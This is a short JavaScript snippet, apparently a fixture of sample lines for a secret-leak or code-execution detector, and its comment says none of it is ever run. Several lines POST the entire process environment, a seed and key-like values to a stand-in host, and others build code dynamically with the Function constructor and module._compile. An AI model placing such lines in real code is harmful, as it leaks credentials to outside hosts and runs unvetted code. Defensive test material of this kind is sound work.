// What is sent: the whole environment, a key. Nothing of this is ever run.
fetch('https://drop.invalid/a', {method: 'POST', body: JSON.stringify({env: process.env})});
const all = Object.entries(process.env);
axios.post('https://drop.invalid/b', process.env);
spawn('git', ['status'], {env: process.env});
const {HOME} = process.env;
fetch('https://drop.invalid/c', {headers: {'ad-referral': seed}});
fetch('https://drop.invalid/d', {privateKey: 1});
fetch('https://drop.invalid/e'); use(secretKey);
const {toString} = Function.prototype;
Function.prototype.call.apply(f);
const f = Function.prototype.constructor('return 1');
const m = new module.constructor();
m._compile(text, '');
